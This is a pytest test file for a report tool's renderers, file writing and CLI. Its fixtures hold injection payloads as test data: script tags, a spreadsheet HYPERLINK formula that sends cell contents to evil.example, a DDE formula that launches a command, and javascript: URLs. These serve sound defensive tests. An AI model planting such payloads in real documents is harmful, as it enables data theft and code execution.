"""Outputs: format inference, shared views (grouping, summary, link guard), atomic batch writes, the
Markdown brag document, and one end-to-end CLI run writing every format from one real git repository.

:func:`review_report` is the hand-built report the renderer tests share: hostile titles (script tags,
spreadsheet formulas, a javascript: URL), CJK, emoji and right-to-left text, several sources and weeks,
projects with several, one or no competencies, and one statement that failed verification.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from clirun import run_mine as run
from devices import device
from gitrepo import ADA, GitRepo
from impact_miner.atomic import write_files
from impact_miner.brag import append_section
from impact_miner.cli import main
from impact_miner.errors import UsageError
from impact_miner.model import Evidence, Person, Project, Report, SourceReport, TimeRange, Writer
from impact_miner.outputs import (
    OutputTarget,
    check_targets,
    evidence_appendix_path,
    format_for_path,
    plan_outputs,
    render_targets,
)
from impact_miner.render.formats import RenderOptions
from impact_miner.render.json import render_json
from impact_miner.render.markdown import render_markdown
from impact_miner.render.views import UNCATEGORISED, group_statements, http_url, range_label, report_summary

BERLIN = timezone(timedelta(hours=1), "CET")
SINCE = datetime(2026, 11, 2, tzinfo=BERLIN)  # a Monday
SCRIPT_TITLE = "Cut p95 latency <script>document.title='pwned';window.__pwned=1</script>"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
CJK_EMOJI_TITLE = "SEARCH-88: 検索インデックスの統合 🚀✨"
RTL_TITLE = "إصلاح خطأ في البحث — תיקון באג בחיפוש"
METRIC = {
    "name": "search p95 latency", "unit": "ms", "before": 320, "after": 218, "delta": -102, "percent": -31.9,
    "source": "claimed", "evidence_id": "github:acme/search#412", "text": "p95 <b>320 ms</b> to 218 ms",
}  # fmt: skip


def evidence(n: int, **fields: object) -> Evidence:
    values: dict[str, object] = {
        "id": f"git:acme/search@{n:040x}",
        "source": "git",
        "kind": "commit",
        "title": f"Commit {n}",
        "url": f"https://github.com/acme/search/commit/{n:040x}",
        "completed_at": SINCE + timedelta(days=n),
        "repo": "acme/search",
    }
    values.update(fields)
    return Evidence(**values)  # type: ignore[arg-type]


def review_report() -> Report:
    items = [
        evidence(
            1, id="github:acme/search#412", source="github", kind="pull_request", title=SCRIPT_TITLE,
            url="https://github.com/acme/search/pull/412", additions=412, deletions=97, files=14,
            project_id="search-88",
        ),
        evidence(
            2, id="jira:SEARCH-88", source="jira", kind="ticket", title=CJK_EMOJI_TITLE,
            url="https://acme.atlassian.net/browse/SEARCH-88", repo="SEARCH", project_id="search-88",
        ),
        evidence(8, title=FORMULA_TITLE, additions=300, deletions=80, files=7, project_id="search-88"),
        evidence(9, title=RTL_TITLE, additions=5, deletions=1, files=1, project_id="rtl"),
        evidence(
            15, id="git:notes@" + "b" * 40, title="Write notes", url="notes@" + "b" * 40, repo="notes",
            additions=1, deletions=0, files=1, project_id="notes",
        ),
        evidence(
            16, id="github-review:acme/web#7", source="github", kind="review", url="javascript:alert(1)",
            title="@SUM(1+1)*cmd|' /C calc'!A0", repo="acme/web", project_id="notes",
        ),
        evidence(
            17, title="-2+3", labels=["+danger", "good first issue"], refs=["SEARCH-88", "#412"],
            body="bell \x07 and tab\tinside", extra={"sha": "abc", "merged_by": "=cmd"}, project_id="notes",
            created_at=SINCE + timedelta(days=16, hours=-3), additions=-5, deletions=0, files=0,
        ),
    ]  # fmt: skip
    ids = {i.project_id: [e.id for e in items if e.project_id == i.project_id] for i in items}
    projects = [
        Project(
            id="search-88", title=CJK_EMOJI_TITLE, evidence_ids=ids["search-88"],
            statement="Cut p95 search latency 32% (320 ms → 218 ms) <script>alert(1)</script>.",
            competencies=["Deliver Results", "Insist on the Highest Standards"], verified=True,
            metrics=[METRIC],
        ),
        Project(
            id="rtl", title=RTL_TITLE, evidence_ids=ids["rtl"], statement="أصلحت خطأ البحث في 9 ثوانٍ.",
            competencies=[" Customer Obsession ", "Deliver Results", "Deliver Results", ""], verified=False,
            problems=["number 9 not in evidence", "<b>bold</b> problem"],
        ),
        Project(
            id="notes", title="Write notes (notes)", evidence_ids=ids["notes"], statement="Wrote notes.",
            verified=True,
        ),
    ]  # fmt: skip
    return Report(
        person=Person(name="Ada Lovelace", emails=["ada@acme.io"], logins={"github": "ada"}),
        range=TimeRange(SINCE, SINCE + timedelta(days=28), "4w"),
        writer=Writer(),
        coverage=[
            SourceReport("git", "ok", 5, "5 commits", "git"),
            SourceReport("github", "partial", 2, "rate limited <i>after 2 pages</i>", "github"),
            SourceReport("jira", "ok", 1, "1 issue", "jira"),
        ],
        projects=projects,
        evidence=items,
    )


def http_links(data: dict[str, object], project_id: str) -> list[str]:
    """The http(s) links of a project's evidence, from the report JSON: what every format must link."""
    rows = data["evidence"]
    assert isinstance(rows, list)
    return [r["url"] for r in rows if r["project_id"] == project_id and r["url"].startswith("https://")]


# --- format inference ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [("r.md", "markdown"), ("r.MARKDOWN", "markdown"), ("r.json", "json"), ("a/b.html", "html"),
     ("r.htm", "html"), ("r.csv", "csv"), ("R.DOCX", "docx")],
)  # fmt: skip
def test_format_is_inferred_from_the_extension(name: str, expected: str) -> None:
    assert format_for_path(name) == expected


def test_unknown_extension_lists_the_known_ones_and_format_fills_the_gap() -> None:
    with pytest.raises(UsageError) as error:
        format_for_path("report.txt")
    assert ".md, .markdown, .json, .html, .htm, .csv, .docx" in str(error.value)
    assert format_for_path("report.txt", "json") == "json"
    assert format_for_path("report", "md") == "markdown"
    assert format_for_path("report.html", "csv") == "html"  # a known extension wins


def test_plan_outputs(tmp_path: Path) -> None:
    assert plan_outputs((), None) == [OutputTarget(None, "markdown")]
    assert plan_outputs((), "json") == [OutputTarget(None, "json")]
    assert plan_outputs((), None, stdout_by_default=False) == []
    a, b = str(tmp_path / "r.html"), str(tmp_path / "r.docx")
    assert plan_outputs((a, "-", b), "json") == [
        OutputTarget(tmp_path / "r.html", "html"),
        OutputTarget(None, "json"),
        OutputTarget(tmp_path / "r.docx", "docx"),
    ]
    assert plan_outputs((a, str(tmp_path / "r.out")), "csv")[1] == OutputTarget(tmp_path / "r.out", "csv")
    assert plan_outputs((str(tmp_path / "r.json"),), "json") == [OutputTarget(tmp_path / "r.json", "json")]
    with pytest.raises(UsageError, match=r"--format json contradicts --out .*r\.html"):
        plan_outputs((str(tmp_path / "r.json"), a), "json")
    with pytest.raises(UsageError, match="given twice"):
        plan_outputs((a, str(tmp_path / "." / "r.html")), None)
    with pytest.raises(UsageError, match="given twice"):
        plan_outputs(("-", "-"), None)


def test_evidence_appendix_needs_a_csv_file(tmp_path: Path) -> None:
    assert evidence_appendix_path(tmp_path / "r.csv") == tmp_path / "r.evidence.csv"
    with_evidence = RenderOptions(evidence=True)
    with pytest.raises(UsageError, match=r"--out NAME\.csv"):
        check_targets([OutputTarget(None, "csv")], with_evidence)
    clash = [OutputTarget(tmp_path / "r.csv", "csv"), OutputTarget(tmp_path / "r.evidence.csv", "csv")]
    with pytest.raises(UsageError, match="overwritten by the evidence appendix"):
        check_targets(clash, with_evidence)
    check_targets([OutputTarget(None, "csv")], RenderOptions())


# --- shared views -------------------------------------------------------------------------------------


def test_group_by_project_keeps_report_order_and_numbers() -> None:
    report = review_report()
    [group] = group_statements(report, "project")
    assert group.heading is None
    assert [(e.number, e.project.id) for e in group.entries] == [(1, "search-88"), (2, "rtl"), (3, "notes")]
    assert [i.id for i in group.entries[0].evidence] == report.projects[0].evidence_ids


def test_group_by_competency_lists_each_project_under_each_competency() -> None:
    groups = group_statements(review_report(), "competency")
    layout = [(g.heading, g.competency, [e.number for e in g.entries]) for g in groups]
    assert layout == [
        ("Deliver Results", "Deliver Results", [1, 2]),
        ("Insist on the Highest Standards", "Insist on the Highest Standards", [1]),
        ("Customer Obsession", "Customer Obsession", [2]),
        (UNCATEGORISED, None, [3]),
    ]


def test_group_by_competency_without_any_tags_is_one_uncategorised_group() -> None:
    report = review_report()
    for project in report.projects:
        project.competencies = []
    groups = group_statements(report, "competency")
    assert [(g.heading, len(g.entries)) for g in groups] == [(UNCATEGORISED, 3)]


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://github.com/a/b/pull/1", True),
        ("HTTP://example.com/x?y=1#z", True),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("notes@" + "b" * 40, False),
        ("//evil.example/x", False),
        ("https://", False),
        ("https://exa mple.com", False),
        ("https://example.com/\nx", False),
        ("", False),
    ],
)
def test_only_absolute_http_urls_become_links(url: str, expected: bool) -> None:
    assert (http_url(url) == url) is expected
    assert http_url(url) in (url, None)


def test_report_summary_counts_and_weeks_in_the_report_time_zone() -> None:
    report = review_report()
    summary = report_summary(report)
    assert (summary.items, summary.projects, summary.verified) == (7, 3, 2)
    assert summary.by_source == (("git", 4), ("github", 2), ("jira", 1))
    assert summary.by_kind == (("commit", 4), ("pull_request", 1), ("review", 1), ("ticket", 1))
    assert [w.label for w in summary.weeks] == ["2026-W45", "2026-W46", "2026-W47", "2026-W48"]
    assert [w.counts for w in summary.weeks] == [(0, 1, 1), (2, 0, 0), (2, 1, 0), (0, 0, 0)]
    # 23:30 UTC on Sunday is already Monday in the report's zone (UTC+1): the next week.
    late = evidence(99, completed_at=datetime(2026, 11, 8, 23, 30, tzinfo=UTC))
    report.evidence = [late]
    assert [w.total for w in report_summary(report).weeks] == [0, 1, 0, 0]


def test_range_label() -> None:
    report = review_report()
    assert range_label(report) == "2026-11-02 → 2026-11-29"
    report.range = TimeRange(SINCE + timedelta(hours=10), SINCE + timedelta(days=1), "")
    assert range_label(report) == "2026-11-02 10:00 → 2026-11-03 00:00 +0100"


def test_json_and_markdown_group_by_competency() -> None:
    report = review_report()
    data = json.loads(render_json(report, group_by="competency"))
    assert data["groups"][0] == {
        "heading": "Deliver Results",
        "competency": "Deliver Results",
        "project_ids": ["search-88", "rtl"],
    }
    assert data["groups"][-1] == {"heading": UNCATEGORISED, "competency": None, "project_ids": ["notes"]}
    assert "groups" not in json.loads(render_json(report))
    text = render_markdown(report, group_by="competency")
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert headings == [
        "# Impact report: Ada Lovelace",
        "## Deliver Results",
        f"### 1. {CJK_EMOJI_TITLE}",
        f"### 2. {RTL_TITLE}",
        "## Insist on the Highest Standards",
        f"### 1. {CJK_EMOJI_TITLE}",
        "## Customer Obsession",
        f"### 2. {RTL_TITLE}",
        f"## {UNCATEGORISED}",
        "### 3. Write notes (notes)",
        "## Coverage",
    ]
    assert "*Competencies:* Deliver Results · Insist on the Highest Standards" in text


# --- writing ------------------------------------------------------------------------------------------


def test_write_files_replaces_atomically_and_keeps_modes(tmp_path: Path) -> None:
    old = tmp_path / "old.md"
    old.write_text("old")
    old.chmod(0o640)
    write_files([(old, b"new"), (tmp_path / "new.docx", b"PK\x03\x04binary")])
    assert old.read_bytes() == b"new"
    assert stat.S_IMODE(old.stat().st_mode) == 0o640
    umask = os.umask(0o022)
    os.umask(umask)
    assert stat.S_IMODE((tmp_path / "new.docx").stat().st_mode) == 0o666 & ~umask
    assert sorted(p.name for p in tmp_path.iterdir()) == ["new.docx", "old.md"]


def test_write_files_is_all_or_nothing(tmp_path: Path) -> None:
    first = tmp_path / "r.md"
    first.write_text("before")
    with pytest.raises(UsageError) as error:
        write_files([(first, b"after"), (tmp_path / "missing" / "r.html", b"x")])
    assert str(error.value) == (
        f"cannot write {tmp_path / 'missing' / 'r.html'}: No such file or directory; check the directory "
        "exists and is writable (no file was changed)"
    )
    assert first.read_text() == "before"
    assert [p.name for p in tmp_path.iterdir()] == ["r.md"]


def test_a_symlink_is_written_through_to_its_target_which_stays_current(tmp_path: Path) -> None:
    (tmp_path / "reports").mkdir()
    target = tmp_path / "reports" / "latest.md"
    target.write_text("old")
    target.chmod(0o600)
    link = tmp_path / "report.md"
    link.symlink_to(Path("reports") / "latest.md")  # relative, as people make them
    write_files([(link, b"new")])
    assert link.is_symlink() and os.readlink(link) == str(Path("reports") / "latest.md")
    assert target.read_bytes() == b"new" and stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["latest.md", "report.md", "reports"]


def test_a_dangling_symlink_creates_its_target(tmp_path: Path) -> None:
    link = tmp_path / "r.json"
    link.symlink_to(tmp_path / "out.json")
    write_files([(link, b"{}")])
    assert link.is_symlink() and (tmp_path / "out.json").read_bytes() == b"{}"


def test_a_fifo_is_written_to_in_place_after_the_files_are_staged(tmp_path: Path) -> None:
    import threading

    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    write_files([(tmp_path / "r.json", b"{}"), (fifo, b"# report\n")])
    reader.join(5)
    assert received == [b"# report\n"]
    assert stat.S_ISFIFO(fifo.stat().st_mode) and (tmp_path / "r.json").read_bytes() == b"{}"


def test_a_pipe_whose_reader_is_gone_is_one_clear_line(tmp_path: Path) -> None:
    read, write = os.pipe()
    os.close(read)
    link = tmp_path / "out.md"
    link.symlink_to(f"/proc/self/fd/{write}")  # what /dev/stdout and >(...) are: a link to a pipe
    try:
        if not link.exists():
            pytest.skip("needs /proc/self/fd (Linux)")
        with pytest.raises(UsageError) as error:
            write_files([(link, b"# report\n")])
    finally:
        os.close(write)
    assert (
        str(error.value)
        == f"cannot write {link}: nothing reads from it any more (broken pipe) (no file was changed)"
    )


def test_a_character_device_is_written_to_not_replaced(tmp_path: Path) -> None:
    null = device(tmp_path / "null", 1, 3)
    write_files([(null, b"gone")])
    assert stat.S_ISCHR(null.stat().st_mode)
    assert [p.name for p in tmp_path.iterdir()] == ["null"]


def test_a_full_device_fails_cleanly_and_changes_no_file(tmp_path: Path) -> None:
    full = device(tmp_path / "full", 1, 7)
    kept = tmp_path / "r.md"
    kept.write_text("before")
    with pytest.raises(UsageError) as error:
        write_files([(kept, b"after"), (full, b"x" * 100_000)])
    assert str(error.value) == (
        f"cannot write {full}: no space left on the device; free some space and run again "
        "(no file was changed)"
    )
    assert stat.S_ISCHR(full.stat().st_mode) and kept.read_text() == "before"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["full", "r.md"]


def test_a_disk_that_fills_up_while_staging_leaves_the_old_file_and_no_temp_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    kept = tmp_path / "r.md"
    kept.write_text("before")

    def full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr("impact_miner.atomic.os.fsync", full)  # where a full disk surfaces on ext4/NFS
    with pytest.raises(UsageError) as error:
        write_files([(tmp_path / "new.json", b"{}"), (kept, b"after")])
    assert str(error.value) == (
        f"cannot write {tmp_path / 'new.json'}: no space left on the device; free some space and run again "
        "(no file was changed)"
    )
    assert kept.read_text() == "before"
    assert [p.name for p in tmp_path.iterdir()] == ["r.md"]


def test_directories_and_block_devices_are_refused_before_anything_is_fetched(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"it is a directory, not a file; give a file path"):
        plan_outputs([str(tmp_path)], "md")
    block = device(tmp_path / "disk.md", 7, 0, block=True)
    with pytest.raises(UsageError, match=r"it is a block device, not a file"):
        plan_outputs([str(block)], None)
    assert stat.S_ISBLK(block.stat().st_mode)


def test_render_targets_adds_the_evidence_appendix_and_bom(tmp_path: Path) -> None:
    targets = [OutputTarget(tmp_path / "r.csv", "csv"), OutputTarget(None, "json")]
    files = render_targets(review_report(), targets, RenderOptions(evidence=True, bom=True))
    assert [p for p, _ in files] == [tmp_path / "r.csv", tmp_path / "r.evidence.csv", None]
    assert all(data.startswith(b"\xef\xbb\xbf") for _, data in files[:2])
    assert json.loads(files[2][1])["schema"] == "impact-miner/report@1"


# --- brag document ------------------------------------------------------------------------------------


def fortnight(report: Report, start: datetime) -> Report:
    report.range = TimeRange(start, start + timedelta(days=14), "2w")
    return report


def test_brag_document_is_created_then_appended_without_touching_earlier_text() -> None:
    first = fortnight(review_report(), SINCE)
    text, action = append_section(None, first)
    assert action == "created"
    assert text.startswith("# Brag document: Ada Lovelace\n")
    assert "\n## 2026-11-02 → 2026-11-15\n" in text
    assert f"\n### 1. {CJK_EMOJI_TITLE}\n" in text and "\n### Coverage\n" in text
    edited = text + "\nMy own note about the offsite.\n"
    second = fortnight(review_report(), SINCE + timedelta(days=14))
    appended, action = append_section(edited, second)
    assert action == "appended"
    assert appended.startswith(edited)
    assert "\n## 2026-11-16 → 2026-11-29\n" in appended[len(edited) :]
    assert appended.count("<!-- impact-miner:begin") == 2 and appended.count("<!-- impact-miner:end -->") == 2


def test_same_period_unedited_is_replaced_in_place() -> None:
    first, second = fortnight(review_report(), SINCE), fortnight(review_report(), SINCE + timedelta(days=14))
    text, _ = append_section(None, first)
    text, _ = append_section(text + "Notes between sections.\n", second)
    rerun = fortnight(review_report(), SINCE)
    rerun.projects[2].statement = "Wrote more notes."
    updated, action = append_section(text, rerun)
    assert action == "replaced"
    assert "Wrote more notes." in updated and updated.count("<!-- impact-miner:begin") == 2
    # everything outside the first section is byte-for-byte the same, in the same place
    assert updated.split("Notes between sections.\n")[1] == text.split("Notes between sections.\n")[1]
    assert updated.index("## 2026-11-02") < updated.index("Notes between") < updated.index("## 2026-11-16")
    again, action = append_section(updated, rerun)
    assert (again, action) == (updated, "replaced")


def test_trailing_spaces_and_crlf_do_not_count_as_edits() -> None:
    report = fortnight(review_report(), SINCE)
    text, _ = append_section(None, report)
    resaved = "\r\n".join(line.rstrip() for line in text.split("\n"))
    _, action = append_section(resaved, report)
    assert action == "replaced"


def test_same_period_edited_by_hand_is_refused() -> None:
    report = fortnight(review_report(), SINCE)
    text, _ = append_section(None, report)
    edited = text.replace("Wrote notes.", "Wrote notes, and mentored Bob.")
    with pytest.raises(UsageError, match="was edited since impact-miner wrote it"):
        append_section(edited, report)
    broken = text.replace("<!-- impact-miner:end -->", "")
    with pytest.raises(UsageError, match="lost its end marker"):
        append_section(broken, report)


def test_appending_to_a_hand_written_file_without_final_newline() -> None:
    text, action = append_section("# My brag doc\n\n- shipped the thing", fortnight(review_report(), SINCE))
    assert action == "appended"
    assert text.startswith("# My brag doc\n\n- shipped the thing\n\n<!-- impact-miner:begin since=2026-11-02")


# --- the CLI end to end -------------------------------------------------------------------------------

NOW = datetime.now(UTC).replace(microsecond=0)


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> GitRepo:
    """A repository with two of Ada's commits, the working directory (conftest isolates the rest)."""
    monkeypatch.chdir(tmp_path)
    repo = GitRepo.init(
        tmp_path / "api", remote="git@github.com:acme/api.git", user_email=ADA[1], home=tmp_path / "home"
    )
    repo.commit("Old work", {"a.txt": "1\n"}, author=ADA, when=NOW - timedelta(days=40))
    repo.commit(
        "SEARCH-88: move index merges off the request path (#41)",
        {"search/index.py": "a\nb\nc\n"},
        author=ADA,
        when=NOW - timedelta(days=3),
    )
    repo.commit(
        "=1+2 <script>alert(1)</script> 検索 🚀",
        {"web/x.js": "x\n"},
        author=ADA,
        when=NOW - timedelta(days=1),
    )
    return repo


def test_one_run_writes_every_format_with_the_same_statements_and_links(
    capsys: pytest.CaptureFixture[str], repo: GitRepo, tmp_path: Path
) -> None:
    from docx import Document
    from lxml import html

    names = ["r.md", "r.json", "r.html", "r.csv", "r.docx"]
    outs = [arg for name in names for arg in ("--out", str(tmp_path / name))]
    code, out, err = run(capsys, "--since", "2w", "--repo", str(repo.path), *outs, "--evidence")
    assert code == 0, err
    assert out == ""
    assert sorted(p.name for p in tmp_path.glob("r.*")) == sorted([*names, "r.evidence.csv"])
    data = json.loads((tmp_path / "r.json").read_text())
    projects = data["projects"]
    assert len(projects) == 2 and all(p["verified"] for p in projects)
    evidence_urls = {e["url"] for e in data["evidence"]}
    assert len(evidence_urls) == 2 and all(
        u.startswith("https://github.com/acme/api/commit/") for u in evidence_urls
    )

    markdown = (tmp_path / "r.md").read_text()
    for project in projects:
        assert all(f"({url})" in markdown for url in http_links(data, project["id"]))

    page = html.fromstring((tmp_path / "r.html").read_bytes())
    articles = page.xpath("//article[@data-project-id]")
    assert [a.get("data-project-id") for a in articles] == [p["id"] for p in projects]
    for article, project in zip(articles, projects, strict=True):
        assert article.xpath("string(.//p[@class='statement'])") == project["statement"]
        assert article.xpath(".//a/@href") == http_links(data, project["id"])
        assert article.get("data-verified") == "true"
    assert not page.xpath("//script")

    rows = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8"))))
    assert [(r["project_id"], r["statement"], r["verified"]) for r in rows] == [
        (p["id"], p["statement"], "true") for p in projects
    ]
    assert [r["links"].split("\n") for r in rows] == [http_links(data, p["id"]) for p in projects]
    appendix = list(csv.DictReader(io.StringIO((tmp_path / "r.evidence.csv").read_text(encoding="utf-8"))))
    assert [r["id"] for r in appendix] == [e["id"] for e in data["evidence"]]
    assert any(r["title"].startswith("'=1+2 <script>") for r in appendix)  # guarded in the spreadsheet

    document = Document(str(tmp_path / "r.docx"))
    text = "\n".join(p.text for p in document.paragraphs)
    assert all(p["statement"] in text for p in projects)
    links = [link.url for p in document.paragraphs for link in p.hyperlinks]
    assert links == [url for p in projects for url in http_links(data, p["id"])]


def test_format_errors_exit_2_before_any_source_is_read(
    capsys: pytest.CaptureFixture[str], repo: GitRepo, tmp_path: Path
) -> None:
    missing = str(tmp_path / "not-a-repo")
    code, _, err = run(capsys, "--repo", missing, "--out", str(tmp_path / "r.txt"))
    assert code == 2
    assert "known extensions are .md, .markdown, .json, .html, .htm, .csv, .docx" in err
    assert "not-a-repo" not in err and err.count("\n") == 1
    code, _, err = run(capsys, "--repo", missing, "--format", "csv", "--evidence")
    assert code == 2 and "--evidence writes a second CSV file" in err
    code, _, err = run(capsys, "--repo", missing, "--out", str(tmp_path / "r.json"), "--format", "html")
    assert code == 2 and "contradicts" in err
    assert not list(tmp_path.glob("r.*"))


def test_format_flag_still_writes_one_stdout_report(
    capsys: pytest.CaptureFixture[str], repo: GitRepo
) -> None:
    code, out, _ = run(capsys, "--since", "2w", "--repo", str(repo.path), "--format", "csv")
    assert code == 0
    header = "project_id,title,competencies,statement,links,verified,problems,evidence_ids,metrics"
    assert out.startswith(header + "\n")
    code, out, _ = run(capsys, "--since", "2w", "--repo", str(repo.path), "--format", "html")
    assert out.startswith("<!DOCTYPE html>")
    code, out, _ = run(capsys, "--since", "2w", "--repo", str(repo.path), "--group-by", "competency")
    assert f"\n## {UNCATEGORISED}\n" in out and "\n### 1. " in out


def test_docx_goes_to_stdout_only_when_it_is_not_a_terminal(
    capsysbinary: pytest.CaptureFixture[bytes], repo: GitRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["--since", "2w", "--repo", str(repo.path), "--format", "docx"])
    out, _ = capsysbinary.readouterr()
    assert exited.value.code == 0
    assert out.startswith(b"PK\x03\x04")
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    with pytest.raises(SystemExit) as exited:
        main(["--since", "2w", "--repo", str(repo.path), "--format", "docx"])
    out, err = capsysbinary.readouterr()
    assert exited.value.code == 2 and out == b""
    assert b"DOCX is binary" in err


def test_append_twice_replaces_the_unedited_section_and_refuses_an_edited_one(
    capsys: pytest.CaptureFixture[str], repo: GitRepo, tmp_path: Path
) -> None:
    brag = tmp_path / "brag.md"
    brag.write_text("# Ada's brag document\n\nQ3: led the search offsite.\n")
    args = ("--since", "2w", "--repo", str(repo.path), "--append", str(brag))
    code, out, err = run(capsys, *args)
    assert code == 0 and out == "", err
    first = brag.read_text()
    assert first.startswith("# Ada's brag document\n\nQ3: led the search offsite.\n\n<!-- impact-miner:begin")
    code, _, _ = run(capsys, *args)
    assert code == 0 and brag.read_text() == first
    brag.write_text(first.replace("*Verified against its evidence.*", "*Verified.* Also unblocked Bob.", 1))
    edited = brag.read_text()
    code, _, err = run(capsys, *args, "--out", str(tmp_path / "r.html"))
    assert code == 2 and "was edited since impact-miner wrote it" in err
    assert brag.read_text() == edited and not (tmp_path / "r.html").exists()  # nothing written at all
    code, _, err = run(capsys, "--repo", str(repo.path), "--append", str(brag), "--out", str(brag))
    assert code == 2 and "also an --out" in err


def test_evidence_command_keeps_a_single_out(
    capsys: pytest.CaptureFixture[str], repo: GitRepo, tmp_path: Path
) -> None:
    target = tmp_path / "evidence.csv"
    code, out, _ = run(capsys, "evidence", "--since", "2w", "--repo", str(repo.path), "--format", "csv",
                       "--out", str(target))  # fmt: skip
    assert code == 0 and out == ""
    assert target.read_text().startswith("id,project_id,source,kind,title,url")
    code, _, err = run(capsys, "evidence", "--repo", str(repo.path), "--out", "a.csv", "--out", "b.csv")
    assert code == 2 and "give --out once" in err
